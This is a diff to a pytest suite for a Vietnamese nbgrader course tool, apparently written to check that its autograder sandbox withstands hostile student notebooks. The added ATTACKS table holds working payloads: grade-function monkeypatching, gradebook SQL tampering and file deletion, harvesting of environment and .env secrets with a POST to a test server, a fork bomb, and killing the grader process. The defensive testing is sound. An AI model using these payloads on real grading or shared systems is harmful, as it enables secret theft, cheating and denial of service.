@@ -70,6 +70,99 @@ PLAN = {
 }
 CLI_TRAINEE = "HV008"  # fetches and submits with the real `nbgrader` command
 
+DOTENV_KEY = "sk-dotenv-PLANTED-abcdef0123456789"  # in a .env above the class folder
+HONEST_PARTIAL = 6.0  # every cheat below starts from the partial answers: at most this
+#: Filled in by the fixture: the class folder and the listening vendor server.
+TARGET: dict[str, str] = {}
+
+#: Hostile trainees: the partial answers, then an attack appended to the prompt cell.
+ATTACKS = {
+    "HV025": (
+        "monkeypatch",
+        "import congdoan, congdoan.grading as _g, congdoan.grading.core as _c\n"
+        "import congdoan.grading.assignments as _a\n"
+        "_g.grade_part = _a.grade_part = lambda *a, **k: 4.0\n"
+        "_c.points_for = lambda items, points: float(points)\n"
+        "congdoan.check = lambda *a, **k: None\n"
+        "grade_part = lambda *a, **k: 4.0",
+    ),
+    "HV026": (
+        "builtins",
+        "import builtins\n"
+        "builtins.min = lambda *a, **k: 4.0\nbuiltins.round = lambda *a, **k: 4.0\n"
+        "builtins.sum = lambda *a, **k: 4.0",
+    ),
+    "HV027": (
+        "transformer",
+        "def _rewrite(lines):\n"
+        "    text = ''.join(lines)\n"
+        "    return ['4\\n'] if 'grade_part' in text or 'emit' in text else lines\n"
+        "get_ipython().input_transformers_cleanup.append(_rewrite)",
+    ),
+    "HV028": (
+        "returns_none",
+        "import congdoan.grading as _g\n_g.grade_part = lambda *a, **k: None\n"
+        "grade_part = lambda *a, **k: None",
+    ),
+    "HV029": (
+        "trainer_files",
+        "import os, sqlite3\n"
+        "for _db in [ROOT + '/gradebook.db']:\n"
+        "    try:\n"
+        "        _c = sqlite3.connect(_db)\n"
+        "        _c.execute('UPDATE grade SET manual_score = 10'); _c.commit()\n"
+        "    except Exception as _e: print('gradebook:', type(_e).__name__)\n"
+        "for _p in [ROOT + '/submitted/HV001/a01_thong_bao/a01_thong_bao.ipynb',\n"
+        "           ROOT + '/autograded/HV002/a01_thong_bao/a01_thong_bao.ipynb']:\n"
+        "    try: os.remove(_p)\n"
+        "    except Exception as _e: print('xoa:', type(_e).__name__)\n"
+        "try:\n"
+        "    with open(ROOT + '/nbgrader_config.py', 'a') as _f: _f.write('\\nimport os\\n')\n"
+        "except Exception as _e: print('config:', type(_e).__name__)\n"
+        "try: open(ROOT + '/../da_vao_day.txt', 'w').write('x')\n"
+        "except Exception as _e: print('ngoai:', type(_e).__name__)",
+    ),
+    "HV030": (
+        "secrets",
+        "import os, json, urllib.request\n"
+        "_found = dict(os.environ)\n"
+        "for _pid in os.listdir('/proc'):\n"
+        "    if _pid.isdigit():\n"
+        "        try: _found[_pid] = open(f'/proc/{_pid}/environ', 'rb').read().decode('latin-1')\n"
+        "        except Exception: pass\n"
+        "for _d in [os.getcwd(), ROOT, ROOT + '/..', os.path.expanduser('~'), '/root']:\n"
+        "    try: _found[_d] = open(os.path.join(_d, '.env')).read()\n"
+        "    except Exception: pass\n"
+        "print(json.dumps(_found)[:5000])\n"
+        "try: urllib.request.urlopen(urllib.request.Request(URL, data=json.dumps(_found).encode()),"
+        " timeout=2)\n"
+        "except Exception as _e: print('mang:', type(_e).__name__)",
+    ),
+    "HV031": (
+        "bombs",
+        "import os, time\n_kids = 0\n"
+        "try:\n"
+        "    for _ in range(3000):\n"
+        "        _pid = os.fork()\n"
+        "        if _pid == 0:\n"
+        "            time.sleep(20); os._exit(0)\n"
+        "        _kids += 1\n"
+        "except OSError as _e: print('fork:', type(_e).__name__)\n"
+        "try: _hog = bytearray(64 << 30)\n"
+        "except MemoryError: print('bo nho: MemoryError')",
+    ),
+    "HV032": (  # the process that runs the notebook, and its parent
+        "kill_parent",
+        "import os, signal\n"
+        "try: os.kill(os.getppid(), signal.SIGKILL)\n"
+        "except OSError as _e: print('cha:', type(_e).__name__)\n"
+        "os.kill(os.getpid(), signal.SIGKILL)",
+    ),
+}
+PLAN.update({student: ("exchange", kind, None, None) for student, (kind, _) in ATTACKS.items()})
+ROSTER = len(PLAN)
+GRADED = ROSTER - 1  # HV022's file was broken
+
 
 def _work(base: dict, kind: str) -> dict:
     nb = json.loads(json.dumps(base))
@@ -94,6 +187,12 @@ def _work(base: dict, kind: str) -> dict:
         cells["a01_answer_prompt"]["source"] += "\nfor i in range(20000):\n    print(i)"
     elif kind == "snoop":
         cells["a01_answer_prompt"]["source"] += SNOOP
+    elif kind in {attack for attack, _ in ATTACKS.values()}:
+        for grade_id, source in answers.variant(NAME, "partial").items():
+            cells[grade_id]["source"] = source
+        code = dict(ATTACKS.values())[kind]
+        prelude = f"ROOT = {TARGET['root']!r}\nURL = {TARGET['url']!r}\n"
+        cells["a01_answer_prompt"]["source"] += "\n" + prelude + code
     return nb
 
 
@@ -206,7 +305,10 @@ def klass(tmp_path_factory):
                 cli, ["course", "init", str(root), "--course-id", "hue-2026", "--cell-timeout", "5"]
             )
             assert result.exit_code == 0, result.output
-            people = classroom.people(24)
+            people = classroom.people(ROSTER)
+            TARGET.update(root=str(root), url=server.url + "/v1/chat/completions")
+            (tmp / ".env").write_text(f"OPENAI_API_KEY={DOTENV_KEY}\n", encoding="utf-8")
+            state["config_before"] = (root / "nbgrader_config.py").read_bytes()
             state["people"] = {p[0]: p[1] for p in people}
             roster = classroom.roster_csv(tmp / "danh_sach.csv", people, sep=";")
             run("roster", "import", str(roster))
@@ -221,6 +323,7 @@ def klass(tmp_path_factory):
             state["collect_zip"] = run("collect", NAME, "--from", str(archive))
             state["autograde"] = run("autograde", NAME, "--workers", WORKERS, "--timeout", TIMEOUT)
             state["first"] = _scores(root)
+            state["fields"] = _fields(root)
             state["integrity_first"] = check_integrity(Course(root).db_path)
             state["autograde_again"] = run(
                 "autograde", NAME, "--workers", WORKERS, "--timeout", TIMEOUT
@@ -228,8 +331,11 @@ def klass(tmp_path_factory):
             state["second"] = _scores(root)
             state["integrity_second"] = check_integrity(Course(root).db_path)
             state["feedback"] = run("feedback", NAME)
-            state["report"] = run("report", "--xlsx", str(tmp / "bao_cao.xlsx"))
+            state["report"] = run(
+                "report", "--xlsx", str(tmp / "bao_cao.xlsx"), "--certificates", str(tmp / "cn")
+            )
             state["xlsx"] = tmp / "bao_cao.xlsx"
+            state["certificates"] = tmp / "cn"
             state["seconds"] = time.monotonic() - started
             yield state
         finally:
@@ -251,6 +357,21 @@ def _scores(root: Path) -> dict[str, float]:
     return {student: round(score, 2) for student, score in rows}
 
 
+def _fields(root: Path) -> dict[tuple[str, str], tuple]:
+    """Every grade row field by field: (student, cell) -> (auto, manual, extra credit)."""
+    connection = sqlite3.connect(root / "gradebook.db")
+    try:
+        rows = connection.execute(
+            "SELECT sa.student_id, bc.name, g.auto_score, g.manual_score, g.extra_credit"
+            " FROM grade g JOIN submitted_notebook sn ON g.notebook_id = sn.id"
+            " JOIN submitted_assignment sa ON sn.assignment_id = sa.id"
+            " JOIN base_cell bc ON g.cell_id = bc.id"
+        ).fetchall()
+    finally:
+        connection.close()
+    return {(r[0], r[1]): tuple(r[2:]) for r in rows}
+
+
 def _progress(output: str) -> dict[str, str]:
     lines = [line for line in output.splitlines() if line.startswith("[")]
     return {line.split("] ", 1)[1].split(":", 1)[0]: line for line in lines}
@@ -258,7 +379,10 @@ def _progress(output: str) -> dict[str, str]:
 
 def test_release_and_collection_report(klass):
     assert "Đã phát bài a01_thong_bao qua thư mục trao đổi" in klass["release"]
-    assert klass["collect_exchange"].startswith("Đã thu bài a01_thong_bao từ thư mục trao đổi: 16")
+    exchanged = sum(how == "exchange" for how, *_ in PLAN.values())
+    assert klass["collect_exchange"].startswith(
+        f"Đã thu bài a01_thong_bao từ thư mục trao đổi: {exchanged}"
+    )
     lines = klass["collect_zip"].splitlines()
     assert lines[0] == (
         "Thu bài: 7 tệp đã ghép với học viên, 1 tệp chưa ghép được, 1 tệp hỏng hoặc sai bài."
@@ -273,8 +397,10 @@ def test_release_and_collection_report(klass):
 
 def test_every_submission_has_its_expected_score_and_status(klass):
     scores, progress = klass["first"], _progress(klass["autograde"])
-    assert len(progress) == 23  # 24 on the roster, HV022's file was broken
+    assert len(progress) == GRADED  # HV022's file was broken
     for student, (_, kind, score, status) in PLAN.items():
+        if student in ATTACKS:
+            continue
         if score is None:
             assert student not in scores and student not in progress
             continue
@@ -283,7 +409,7 @@ def test_every_submission_has_its_expected_score_and_status(klass):
 
         label = msg(f"course.status.{status}")
         assert progress[student].split(": ", 1)[1].startswith(label), progress[student]
-    assert "[23/23]" in klass["autograde"]
+    assert f"[{GRADED}/{GRADED}]" in klass["autograde"]
     # nbgrader gives up on a kernel that ignores its interrupt, or we kill it at --timeout
     assert "HV017: quá thời gian · 0/10 (" in klass["autograde"]
 
@@ -293,7 +419,7 @@ def test_gradebook_intact_and_rerun_idempotent(klass):
     assert klass["integrity_first"]["duplicates"] == 0
     assert klass["integrity_second"] == klass["integrity_first"]
     assert klass["second"] == klass["first"]
-    assert klass["integrity_first"]["rows"]["student"] == 24
+    assert klass["integrity_first"]["rows"]["student"] == ROSTER
 
 
 def test_no_ai_call_and_no_key_anywhere(klass):
@@ -311,7 +437,12 @@ def test_no_ai_call_and_no_key_anywhere(klass):
 
 def test_feedback_is_vietnamese_and_hides_hidden_tests(klass):
     root = klass["root"]
-    assert klass["feedback"].startswith("Đã tạo phản hồi bài a01_thong_bao cho 22 học viên")
+    # every graded trainee gets a page: the two whose work could not be graded (killed
+    # at the time limit, killed the grader) a short one saying what happened
+    assert klass["feedback"].startswith(f"Đã tạo phản hồi bài a01_thong_bao cho {GRADED} học viên")
+    killer = next(s for s, (k, _) in ATTACKS.items() if k == "kill_parent")
+    page = (root / "feedback" / killer / NAME / f"{NAME}.html").read_text(encoding="utf-8")
+    assert "chưa chấm được" in page and "nộp lại" in page
     hidden = 'grade_part("a01", "facts"'
     autograded = json.loads((root / "autograded" / "HV001" / NAME / f"{NAME}.ipynb").read_text())
     assert any(
@@ -324,24 +455,77 @@ def test_feedback_is_vietnamese_and_hides_hidden_tests(klass):
             '</span><span class="p">,</span> <span class="s2">&quot;facts' not in text
         )
         assert "&quot;facts&quot;" not in text  # ...but no page shows it
-        assert "Điểm:" in text and "Ô kiểm tra" in text
+        assert ("Điểm:" in text and "Ô kiểm tra" in text) or "chưa chấm được" in text
 
 
 def test_report_numbers_and_workbook(klass):
     from openpyxl import load_workbook
 
     report = klass["report"]
-    assert report.startswith("Báo cáo lớp hue-2026: 24 học viên, 1 bài.\n")
-    assert "- a01_thong_bao: 23 bài đã chấm" in report  # HV017 killed: 0, still counted
+    assert report.startswith(f"Báo cáo lớp hue-2026: {ROSTER} học viên, 1 bài.\n")
+    assert f"- a01_thong_bao: {GRADED} bài đã chấm" in report  # killed ones: 0, still counted
     assert "Nên dạy lại (mã kiểm tra nhiều học viên chưa đạt nhất):" in report
     book = load_workbook(klass["xlsx"])
     rows = {r[0]: r for r in list(book["Học viên"].values)[1:]}
     assert rows["HV001"][3] == 8 and rows["HV022"][4] == "chưa nộp"
     assert rows["HV017"][4] == "quá thời gian"
     checks = {(r[0], r[1]): r for r in list(book["Mã kiểm tra"].values)[1:]}
-    assert checks[(NAME, "a01_prompt")][4] == 23
+    assert checks[(NAME, "a01_prompt")][4] == GRADED
+
+
+def test_report_lists_who_has_no_certificate_yet(klass):
+    """A certificate needs all six assignments of the syllabus: this a01-only class earns
+    none yet, and the report says for each trainee what is missing instead of failing."""
+    folder, report = klass["certificates"], klass["report"]
+    assert "Đã ghi 0 giấy chứng nhận" in report
+    assert not folder.exists() or not any(folder.iterdir())
+    assert "- HV001: chưa đủ điều kiện nhận giấy chứng nhận (" in report
+    assert "a02_ke_hoach" in report.split("- HV001: chưa đủ điều kiện", 1)[1].splitlines()[0]
 
 
 def test_runtime_budget(klass):
     print(f"\nend-to-end: {klass['seconds']:.0f} s; steps: {klass['timings']}")
     assert klass["seconds"] < 300
+
+
+def test_no_cheat_scores_above_its_honest_work(klass):
+    """Each attack rides on the partial answers (6/10): it earns 6 at most, never more."""
+    scores, progress = klass["first"], _progress(klass["autograde"])
+    for student, (kind, _) in ATTACKS.items():
+        assert scores[student] <= HONEST_PARTIAL, (student, kind, progress[student])
+    # replaced builtins break the trainee's own kernel (1.5/10 measured): less, never more;
+    # attacks that cannot touch the grading leave the honest partial score intact
+    for kind in ("monkeypatch", "returns_none", "trainer_files", "secrets", "bombs"):
+        student = next(s for s, (k, _) in ATTACKS.items() if k == kind)
+        assert scores[student] == HONEST_PARTIAL, (kind, progress[student])
+    transformer = next(s for s, (k, _) in ATTACKS.items() if k == "transformer")
+    assert scores[transformer] == 0  # its grading cells handed out no answers
+    killer = next(s for s, (k, _) in ATTACKS.items() if k == "kill_parent")
+    assert scores[killer] == 0 and "lỗi khi chấm" in progress[killer]
+
+
+def test_hostile_work_changes_nothing_outside_its_sandbox(klass):
+    root, fields = klass["root"], klass["fields"]
+    assert (root / "nbgrader_config.py").read_bytes() == klass["config_before"]
+    assert (root / "submitted" / "HV001" / NAME / f"{NAME}.ipynb").is_file()
+    assert (root / "autograded" / "HV002" / NAME / f"{NAME}.ipynb").is_file()
+    assert not (root.parent / "da_vao_day.txt").exists()
+    assert all(manual is None for _, manual, _ in fields.values())  # nobody set a manual score
+    for (student, cell), (auto, _, _) in fields.items():  # honest rows: exactly their points
+        kind = PLAN.get(student, ("", ""))[1]
+        if kind in ("solution", "partial") and cell in answers.EXPECTED[NAME][kind]:
+            assert auto == answers.EXPECTED[NAME][kind][cell], (student, cell)
+    assert "sổ điểm có" not in klass["autograde"]  # no score changed behind the grader's back
+
+
+def test_no_planted_key_in_any_file_or_request(klass):
+    assert klass["server"].requests == []
+    root = klass["root"]
+    files = [p for p in root.rglob("*") if p.is_file() and p.name != "gradebook.db"]
+    files.append(klass["xlsx"])
+    snoop = root / "autograded" / next(iter(s for s, (k, _) in ATTACKS.items() if k == "secrets"))
+    assert any(snoop.rglob("*.ipynb"))
+    for path in files:
+        text = path.read_bytes().decode("utf-8", errors="replace")
+        assert FAKE_KEY not in text, path
+        assert DOTENV_KEY not in text, path
